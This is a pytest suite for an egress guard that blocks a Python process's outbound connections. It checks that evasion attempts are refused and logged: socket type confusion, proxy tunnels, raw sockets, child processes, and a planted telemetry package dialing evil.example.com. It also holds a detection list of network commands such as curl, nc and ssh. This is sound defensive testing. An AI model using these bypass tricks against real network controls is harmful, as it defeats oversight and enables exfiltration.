"""The process guard's modes and tripwires. A hook cannot be removed, so each runs in a process of its own; tests/egress proves what it stops."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from airgap import guard as guard_module
from airgap.answers import KEPT_FOR, MAX_ADDRESSES, MAX_NAMES, AnswerMemory
from airgap.guard import Guard
from airgap.policy import EgressPolicy, Rule
from airgap.tripwires import network_command
from tests.conftest import ROOT

START = """
import json, socket, sys, tempfile
import _socket
from pathlib import Path
from airgap import guard
from airgap.blocked import AirgapBlocked
from airgap.policy import EgressPolicy
before = (_socket.getaddrinfo, socket.socket.connect, socket.gethostbyname)
folder = Path(tempfile.mkdtemp())
"""


def run(code: str, tmp_path: Path, **variables: str) -> str:
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "TMPDIR": str(tmp_path), **variables}
    done = subprocess.run([sys.executable, "-c", START + code], cwd=ROOT, env=environment, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()[-1]


@pytest.mark.parametrize(("on", "mode"), [("0", "enforce"), ("1", "off")])
def test_switched_off_nothing_is_patched(on: str, mode: str, tmp_path: Path) -> None:
    code = f"""
made = guard.install(EgressPolicy.from_text({on!r}, ""), folder, mode={mode!r})
print(made is None and guard.current() is None and before == (_socket.getaddrinfo, socket.socket.connect, socket.gethostbyname))
"""
    assert run(code, tmp_path) == "True"


def test_installing_twice_replaces_the_policy_and_wraps_once(tmp_path: Path) -> None:
    code = """
first = guard.install(EgressPolicy.from_text("1", ""), folder)
wrapped = socket.socket.connect
second = guard.install(EgressPolicy.from_text("1", "intel.example.com"), folder)
print(first is second and wrapped is socket.socket.connect and second.policy.decide_host("intel.example.com").allowed and second.selftest())
"""
    assert run(code, tmp_path) == "True"


def test_report_mode_counts_and_logs_and_lets_pass(tmp_path: Path) -> None:
    code = """
made = guard.install(EgressPolicy.from_text("1", ""), folder, mode="report")
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    made._on_connect(udp, ("192.0.2.1", 9))
    outcome = "passed"
except AirgapBlocked:
    outcome = "refused"
from airgap import events
from airgap.segments import waiting_segments
events.recorder().spool.seal()
print(json.dumps([outcome, [record.key[0] for waiting in waiting_segments(folder) for record in waiting.read().records]]))
"""
    assert json.loads(run(code, tmp_path)) == ["passed", ["192.0.2.1"]]


def test_an_event_loop_in_c_is_refused(tmp_path: Path) -> None:
    (tmp_path / "uvloop.py").write_text("", encoding="utf-8")
    code = """
guard.install(EgressPolicy.from_text("1", ""), folder)
try:
    import uvloop
    print("imported")
except ImportError as error:  # whoever can do without it does
    print(isinstance(error, guard.GuardError), "uvloop" in str(error), guard.current().unguarded())
"""
    assert run(code, tmp_path, PYTHONPATH=str(tmp_path)) == "True True ['uvloop']"


def test_a_client_in_c_and_a_network_command_are_told(tmp_path: Path) -> None:
    (tmp_path / "pycurl.py").write_text("", encoding="utf-8")
    code = """
import subprocess
made = guard.install(EgressPolicy.from_text("1", ""), folder)
import pycurl
try:
    subprocess.run(["curl", "--version"], capture_output=True)
except FileNotFoundError:
    pass
print(json.dumps(made.unguarded()))
"""
    assert json.loads(run(code, tmp_path, PYTHONPATH=str(tmp_path))) == ["pycurl", "subprocess curl"]


def test_a_hook_that_the_interpreter_does_not_take_is_noticed(tmp_path: Path) -> None:
    """An earlier hook that raises makes adding one a silent no-op; the self-test must not be fooled."""
    code = """
def veto(event, args):
    if event == "sys.addaudithook":
        raise RuntimeError("no more hooks")
sys.addaudithook(veto)
try:
    guard.install(EgressPolicy.from_text("1", ""), folder)
    print("installed")
except guard.GuardError:
    print("refused")
"""
    assert run(code, tmp_path) == "refused"


def test_what_is_no_egress_goes_on_working(tmp_path: Path) -> None:
    code = """
guard.install(EgressPolicy.from_text("1", ""), folder)
server = socket.create_server(("127.0.0.1", 0))
socket.create_connection(server.getsockname()).close()
socket.create_connection(("localhost", server.getsockname()[1])).close()
left, right = socket.socketpair()
left.sendmsg([b"x"])
socket.socket(socket.AF_UNIX).close()
socket.getaddrinfo(None, 80)
socket.getaddrinfo("8.8.8.8", 80)
socket.getfqdn()
print("ok")
"""
    assert run(code, tmp_path) == "ok"


# ── The judgements, without a hook ───────────────────────────────────────────────────────────────────────────────────
def test_a_public_address_is_dialled_only_for_an_allowlisted_name_that_answered_it() -> None:
    made = Guard(EgressPolicy.from_text("1", "intel.example.com:443"), "enforce")
    assert not made.judge_address("93.184.216.34", 443)[0].allowed
    made.remember("intel.example.com", {"93.184.216.34"})
    assert made.judge_address("93.184.216.34", 443)[0].allowed
    assert not made.judge_address("93.184.216.34", 80)[0].allowed, "the entry's port holds at connect"
    made.remember("x.internal", {"93.184.216.35"})
    decision, about = made.judge_address("93.184.216.35", 443)
    assert (decision.rule, about) == (Rule.PRIVATE_NAME_PUBLIC_ANSWER, "x.internal")


def test_internal_names_neither_outvote_nor_crowd_out_an_allowlisted_one_of_the_same_address() -> None:
    made = Guard(EgressPolicy.from_text("1", "intel.example.com"), "enforce")
    made.remember("intel.example.com", {"93.184.216.34"})
    for number in range(3 * MAX_NAMES):
        made.remember(f"x{number}.internal", {"93.184.216.34"})
    assert made.judge_address("93.184.216.34", 443)[0].allowed


def test_the_memory_of_answers_is_bounded_and_forgets(monkeypatch: pytest.MonkeyPatch) -> None:
    memory = AnswerMemory()
    for number in range(MAX_ADDRESSES + 100):
        memory.record(f"h{number}", {f"a{number}"}, grants=True)
    for number in range(MAX_NAMES + 5):
        memory.record(f"n{number}", {"shared"}, grants=False)
    assert len(memory._names) <= MAX_ADDRESSES
    assert len(memory.names_of("shared")) == MAX_NAMES
    assert memory.names_of("a0") == []
    from airgap import answers

    now = answers.time.monotonic()
    monkeypatch.setattr(answers.time, "monotonic", lambda: now + KEPT_FOR + 1)
    assert memory.names_of("shared") == []


# ── What an attack on the guard found ────────────────────────────────────────────────────────────────────────────────
TRY = """
def tried(act):
    try:
        act()
    except AirgapBlocked as error:
        return f"{error.layer} {error.host} {error.port}"
    except Exception as error:
        return type(error).__name__
    return "passed"
guard.install(EgressPolicy.from_text("1", "10.0.0.9:53"), folder)
"""


def tries(code: str, tmp_path: Path) -> list[str]:
    """What became of each line of `code`, an expression that dials."""
    lines = "".join(f"told.append(tried(lambda: {line}))\n" for line in code.strip().splitlines())
    return json.loads(run(f"{TRY}told = []\nL, L6, UDP = '192.0.2.1', '2001:db8::1', socket.SOCK_DGRAM\n{lines}print(json.dumps(told))\n", tmp_path))


def test_a_port_that_is_a_number_of_another_type_hides_nothing(tmp_path: Path) -> None:
    code = """
socket.socket().connect_ex((L, type("I", (), {"__index__": lambda s: 80})()))
socket.socket(socket.AF_INET6).connect((L6, type("I", (), {"__index__": lambda s: 443})()))
socket.socket(type=UDP).sendto(b"x", (L, type("I", (), {"__index__": lambda s: 80})()))
socket.socket(type=UDP).sendmsg([b"x"], [], 0, (L, type("I", (), {"__index__": lambda s: 80})()))
socket.socket().connect(("127.0.0.1", type("I", (), {"__index__": lambda s: 1})()))
"""
    assert tries(code, tmp_path) == [
        "connect 192.0.2.1 80",
        "connect 2001:db8::1 443",
        "connect 192.0.2.1 80",
        "connect 192.0.2.1 80",
        "ConnectionRefusedError",
    ]


def test_types_that_say_one_thing_to_python_and_another_to_c_hide_nothing(tmp_path: Path) -> None:
    code = """
socket.socket().connect(type("T", (tuple,), {"__getitem__": lambda s, i: ("127.0.0.1", 80)[i], "__iter__": lambda s: iter(("127.0.0.1", 80))})((L, 80)))
socket.getaddrinfo(type("S", (str,), {"lower": lambda s: "localhost", "isascii": lambda s: True, "__str__": lambda s: "localhost"})("evil.example.com"), 80)
type("S", (socket.socket,), {"family": 1})(socket.AF_INET).connect((L, 80))
socket.getaddrinfo(type("B", (bytes,), {"__bytes__": lambda s: b"localhost"})(b"evil.example.com"), 80)
type("S", (socket.socket,), {"family": 1})(socket.AF_INET).connect(("evil.example.com", 80))
type("S", (socket.socket,), {"family": 1})(socket.AF_INET, UDP).sendto(b"x", ("evil.example.com", 80))
"""
    name = "dns evil.example.com 80"
    assert tries(code, tmp_path) == ["connect 192.0.2.1 80", name, "connect 192.0.2.1 80", name, name, name]


def test_a_name_to_bind_to_is_judged_before_it_is_looked_up(tmp_path: Path) -> None:
    """C looks it up inside bind(), and no event tells of that: servers, and clients with an address to send from."""
    code = """
socket.socket().bind(("evil.example.com", 0))
socket.socket(type=UDP).bind((b"evil.example.com", 0))
socket.create_server(("evil.example.com", 0))
socket.create_connection(("127.0.0.1", 9), 1, source_address=("evil.example.com", 0))
__import__("socketserver").UDPServer(("evil.example.com", 0), None)
__import__("multiprocessing.connection").connection.Listener(("evil.example.com", 0))
socket.socket().bind(("localhost", 0))
socket.socket().bind(("", 0))
socket.socket(socket.AF_INET6).bind(("::1", 0, 0, 0))
socket.socket(socket.AF_UNIX).bind(str(folder / "socket"))
"""
    assert tries(code, tmp_path) == ["dns evil.example.com None"] * 6 + ["passed"] * 4


def test_a_port_beside_a_name_is_no_other_port(tmp_path: Path) -> None:
    """socket refuses it; a server asked for 70000 came up on 4464 without a word."""
    code = f"""
{TRY}
said = []
for method in ("bind", "connect", "connect_ex"):
    for port in (70000, -1):
        try:
            getattr(socket.socket(), method)(("localhost", port))
        except OverflowError as error:
            said.append(str(error))
print(json.dumps(said))
"""
    assert json.loads(run(code, tmp_path)) == ["port must be 0-65535."] * 6


def test_raw_and_packet_sockets_are_refused_and_plain_ones_are_not(tmp_path: Path) -> None:
    code = """
_socket.socket(-1, socket.SOCK_RAW, 255)
socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
socket.socket(socket.AF_VSOCK)
socket.socket(fileno=socket.socket().detach())
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)
socket.socketpair()
"""
    refused = "connect (raw socket) None"
    family = "connect (address family) None"
    assert tries(code, tmp_path) == [refused, refused, family, family, "passed", "passed", "passed"]


def test_a_resolver_of_ones_own_is_refused_unless_its_server_is_allowlisted(tmp_path: Path) -> None:
    code = """
socket.socket(type=UDP).sendto(b"query", ("127.0.0.53", 53))
socket.socket(type=UDP).connect(("10.0.0.8", 53))
socket.socket().connect(("10.0.0.8", 853))
socket.socket(type=UDP).connect(("10.0.0.9", 53))
"""
    *refused, allowlisted = tries(code, tmp_path)
    assert refused == ["connect 127.0.0.53 53", "connect 10.0.0.8 53", "connect 10.0.0.8 853"]
    assert not allowlisted.startswith("connect"), "it passes, or this machine has no route there"


def test_a_body_that_looks_like_a_request_is_a_body_and_the_target_behind_a_proxy_is_judged(tmp_path: Path) -> None:
    code = f"""
{TRY}
import http.client, threading, urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer
class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()
    do_GET = do_POST
    def log_message(self, *_): pass
server = HTTPServer(("127.0.0.1", 0), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
port = server.server_port
def post(body):
    connection = http.client.HTTPConnection("127.0.0.1", port)
    connection.request("POST", "/", body=body)
    return connection.getresponse().read()
def through(act):
    connection = http.client.HTTPConnection("127.0.0.1", port)
    return act(connection)
told = [
    tried(lambda: post("Visit https://evil.example.com/ now")),
    tried(lambda: post(b"GET http://evil.example.com/ HTTP/1.1 200 12\\n")),
    tried(lambda: urllib.request.urlopen(f"http://127.0.0.1:{{port}}/", data=b"alert https://evil.example.com/").read()),
    tried(lambda: through(lambda c: c.request("GET", "http://evil.example.com/x"))),
    tried(lambda: through(lambda c: c.request("M-SEARCH", "ftp://evil.example.com/x"))),
    tried(lambda: through(lambda c: c.set_tunnel("evil.example.com", 443))),
    tried(lambda: through(lambda c: c.set_tunnel("2001:db8::1", 443))),
    tried(lambda: through(lambda c: c.request("CONNECT", "evil.example.com:443"))),
    tried(lambda: through(lambda c: c.request("POST", f"http://127.0.0.1:{{port}}/inside", body=b""))),
]
print(json.dumps(told))
"""
    assert json.loads(run(code, tmp_path)) == [
        "passed", "passed", "passed", "proxy evil.example.com 80", "proxy (malformed) None", "proxy evil.example.com 443", "proxy 2001:db8::1 443",
        "proxy evil.example.com 443", "passed",
    ]  # fmt: skip


def test_clients_that_hide_their_target_behind_a_proxy_are_judged_by_the_target(tmp_path: Path) -> None:
    code = f"""
{TRY}
import asyncio, httpx, aiohttp
proxy = "http://127.0.0.1:9"
async def by_httpx():
    async with httpx.AsyncClient(proxy=proxy) as client:
        await client.get("https://evil.example.com/")
async def by_aiohttp():
    async with aiohttp.ClientSession() as client:
        await client.get("https://evil.example.com/", proxy=proxy)
print(json.dumps([
    tried(lambda: httpx.Client(proxy=proxy).get("http://evil.example.com/")),
    tried(lambda: httpx.Client(proxy=proxy).get("https://evil.example.com/")),
    tried(lambda: asyncio.run(by_httpx())),
    tried(lambda: asyncio.run(by_aiohttp())),
    tried(lambda: httpx.Client(proxy=proxy).get("https://inside.corp/")),
]))
"""
    assert json.loads(run(code, tmp_path)) == [
        "http evil.example.com 80", "http evil.example.com 443", "http evil.example.com 443", "http evil.example.com 443", "ConnectError",
    ]  # fmt: skip


@pytest.mark.parametrize("method", ["spawn", "forkserver"])
def test_python_children_of_multiprocessing_are_guarded(method: str, tmp_path: Path) -> None:
    (tmp_path / "dials.py").write_text(
        "import socket\n"
        "def dial(host):\n"
        "    try:\n"
        "        socket.create_connection((host, 80), 1)\n"
        "    except Exception as error:\n"
        "        return type(error).__name__\n"
        "    return 'passed'\n",
        encoding="utf-8",
    )
    code = f"""
import multiprocessing
from concurrent.futures import ProcessPoolExecutor
if __name__ == "__main__":
    guard.install(EgressPolicy.from_text("1", "intel.example.com"), folder)
    import dials
    with ProcessPoolExecutor(1, mp_context=multiprocessing.get_context({method!r})) as pool:
        told = list(pool.map(dials.dial, ["192.0.2.1", "evil.example.com"]))
    from airgap.segments import waiting_segments
    hosts = sorted(record.key[0] for waiting in waiting_segments(folder) for record in waiting.read().records)
    print(json.dumps([told, hosts]))
"""
    assert json.loads(run(code, tmp_path, PYTHONPATH=str(tmp_path))) == [["AirgapBlocked"] * 2, ["192.0.2.1", "evil.example.com"]]


@pytest.mark.parametrize("method", ["spawn", "forkserver"])
def test_python_children_of_billiard_are_guarded(method: str, tmp_path: Path) -> None:
    (tmp_path / "dials.py").write_text(
        "import socket, sys\n"
        "def dial(host):\n"
        "    try:\n"
        "        socket.create_connection((host, 80), 1)\n"
        "    except Exception as error:\n"
        "        sys.exit(7 if type(error).__name__ == 'AirgapBlocked' else 8)\n",
        encoding="utf-8",
    )
    code = f"""
import billiard
if __name__ == "__main__":
    guard.install(EgressPolicy.from_text("1", ""), folder)
    import dials
    child = billiard.get_context({method!r}).Process(target=dials.dial, args=("evil.example.com",))
    child.start()
    child.join(30)
    print(child.exitcode)
"""
    assert run(code, tmp_path, PYTHONPATH=str(tmp_path)) == "7"


def test_a_reloaded_socket_module_is_wrapped_again(tmp_path: Path) -> None:
    code = f"""
{TRY}
import importlib
importlib.reload(socket)
print(tried(lambda: socket.socket().connect(("evil.example.com", 80))))
"""
    assert run(code, tmp_path) == "dns evil.example.com 80"


def test_a_refusal_in_a_signal_handler_while_another_is_recorded_hangs_nothing_and_loses_nothing(tmp_path: Path) -> None:
    code = f"""
{TRY}
import signal, time
from airgap import events
from airgap.segments import waiting_segments
seen = []
def dial(*_):
    try:
        socket.socket().connect(("192.0.2.1", 80))
    except AirgapBlocked:
        seen.append(1)
def interrupt(*_):
    dial()
    if time.monotonic() < until:  # anew each time: on a slow machine a running timer would nest handlers without end
        signal.setitimer(signal.ITIMER_REAL, 0.0005)
signal.signal(signal.SIGALRM, interrupt)
until = time.monotonic() + 2
interrupt()
while time.monotonic() < until + 0.1:
    dial()
events.recorder().spool.seal()
print(len(seen) == sum(record.count for waiting in waiting_segments(folder) for record in waiting.read().records), len(seen) > 100)
"""
    assert run(code, tmp_path) == "True True"


def test_a_refusal_while_one_is_being_logged_is_counted(tmp_path: Path) -> None:
    code = f"""
import logging
class Dials(logging.Handler):
    def emit(self, record):
        try:
            socket.socket().connect(("192.0.2.9", 80))
        except AirgapBlocked:
            pass
logging.getLogger("airgap").addHandler(Dials())
{TRY}
import structlog
structlog.configure(logger_factory=structlog.stdlib.LoggerFactory(), wrapper_class=structlog.stdlib.BoundLogger)
tried(lambda: socket.socket().connect(("192.0.2.1", 80)))
from airgap import events
from airgap.segments import waiting_segments
events.recorder().spool.seal()
print(sorted(record.key[0] for waiting in waiting_segments(folder) for record in waiting.read().records))
"""
    assert run(code, tmp_path) == "['192.0.2.1', '192.0.2.9']"


def test_a_port_that_no_port_is_harms_no_row(tmp_path: Path) -> None:
    code = f"""
{TRY}
tried(lambda: socket.getaddrinfo("x.example.com", -1))
tried(lambda: socket.getaddrinfo("x.example.com", 2**40))
from airgap import events
from airgap.segments import waiting_segments
events.recorder().spool.seal()
print([record.key[1] for waiting in waiting_segments(folder) for record in waiting.read().records])
"""
    assert run(code, tmp_path) == "[0]"


def test_a_url_in_a_hosts_place_leaves_no_secret_in_row_line_or_error(tmp_path: Path) -> None:
    """Clients that split a URL carelessly, or were given one where a host belongs: user info, path and query stay out."""
    code = f"""
{TRY}
import http.client, structlog, urllib.request
lines, errors = [], []
structlog.configure(processors=[lambda _logger, _name, line: lines.append(repr(line)) or ""], logger_factory=structlog.ReturnLoggerFactory())
for act in (
    lambda: socket.create_connection(("redis://:hunter2@redis:6379/0", 6379)),
    lambda: socket.socket().connect(("hunter2@intel.corp", 443)),
    lambda: urllib.request.urlopen("http://hunter2@intel.corp/"),
    lambda: http.client.HTTPSConnection("hooks.slack.com/services/T0/B0/hunter2").request("GET", "/"),
):
    try:
        act()
    except AirgapBlocked as error:
        errors.append(repr((str(error), error.host)))
from airgap import events
from airgap.segments import waiting_segments
events.recorder().spool.seal()
rows = [record for waiting in waiting_segments(folder) for record in waiting.read().records]
print(json.dumps([sorted(row.key[0] for row in rows), len(lines), len(errors), "hunter2" in repr([rows, lines, errors])]))
"""
    assert json.loads(run(code, tmp_path)) == [["***@intel.corp", "***@intel.corp", "***@redis:6379", "hooks.slack.com"], 4, 4, False]


def test_a_refusal_comes_out_of_a_process_pool_as_itself(tmp_path: Path) -> None:
    code = """
import multiprocessing
from concurrent.futures import ProcessPoolExecutor
guard.install(EgressPolicy.from_text("1", ""), folder)
with ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("fork")) as pool:
    try:
        pool.submit(socket.create_connection, ("192.0.2.1", 80)).result(20)
    except AirgapBlocked as error:
        print(error.host, error.port, error.layer, error.decision.rule, pool.submit(len, "abc").result(20))
"""
    assert run(code, tmp_path) == "192.0.2.1 80 connect public 3"


def test_a_thread_that_a_package_started_is_named_by_the_package(tmp_path: Path) -> None:
    package = tmp_path / "site-packages" / "telemetry_sdk"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("import socket\ndef send():\n    socket.create_connection(('evil.example.com', 443))\n", encoding="utf-8")
    code = f"""
{TRY}
import threading, telemetry_sdk
threading.excepthook = lambda args: None
thread = threading.Thread(target=telemetry_sdk.send)
thread.start()
thread.join()
from airgap import events
from airgap.segments import waiting_segments
events.recorder().spool.seal()
print([record.key[7] for waiting in waiting_segments(folder) for record in waiting.read().records])
"""
    assert run(code, tmp_path, PYTHONPATH=str(package.parent)) == "['telemetry_sdk']"


def test_a_weaker_policy_put_in_later_is_told(tmp_path: Path) -> None:
    code = """
guard.install(EgressPolicy.from_text("1", ""), folder)
told = []
guard.events.log = type("Log", (), {"warning": staticmethod(lambda event, **parts: told.append((event, parts["mode"])))})
guard.install(EgressPolicy.from_text("1", ""), folder)
guard.install(EgressPolicy.from_text("1", ""), folder, mode="report")
print(told)
"""
    assert run(code, tmp_path) == "[('airgap.guard_replaced', 'report')]"


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["curl", "-s", "http://x/"], "curl"),
        (["/usr/bin/env", "LANG=C", "wget", "x"], "wget"),
        (["timeout", "1", "nc", "x", "1"], "nc"),
        (["sh", "-c", "ssh -V"], "ssh"),
        (["/bin/bash", "-ec", "cd /tmp && git fetch"], "git"),
        (["sh", "-c", "x=$(dig +short evil)"], "dig"),
        (["python3.11", "-m", "pip", "download", "x"], "python3.11"),
        (["python", "-m", "celery", "-A", "aisoc_admin", "worker"], ""),
        (["python", "-m", "gunicorn", "-c", "python:aisoc_admin.gunicorn_conf", "aisoc_admin.wsgi:application"], ""),
        (["grep", "host", "/etc/hosts"], ""),
        (["valkey-server", "valkey.conf"], ""),
        (["sh", "-c", "echo curl"], ""),
        (["sh"], ""),
        ([], ""),
        (["telnet"], "telnet"),
    ],
)
def test_commands_that_send_are_known_behind_shells_and_wrappers(words: list[str], told: str) -> None:
    assert network_command(words[0] if words else "", words) == told


def test_variables_that_lead_elsewhere_are_taken_out_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HTTPS_PROXY", "all_proxy", "HOSTALIASES", "LOCALDOMAIN", "RES_OPTIONS"):
        monkeypatch.setenv(name, "x")
    monkeypatch.setenv("NO_PROXY", "y")
    monkeypatch.setenv("no_proxy", "y")
    assert guard_module.scrub_proxies() == ["HOSTALIASES", "HTTPS_PROXY", "LOCALDOMAIN", "RES_OPTIONS", "all_proxy"]
    assert not {"HTTPS_PROXY", "all_proxy", "HOSTALIASES"} & set(os.environ)
    assert os.environ["NO_PROXY"] == "*"
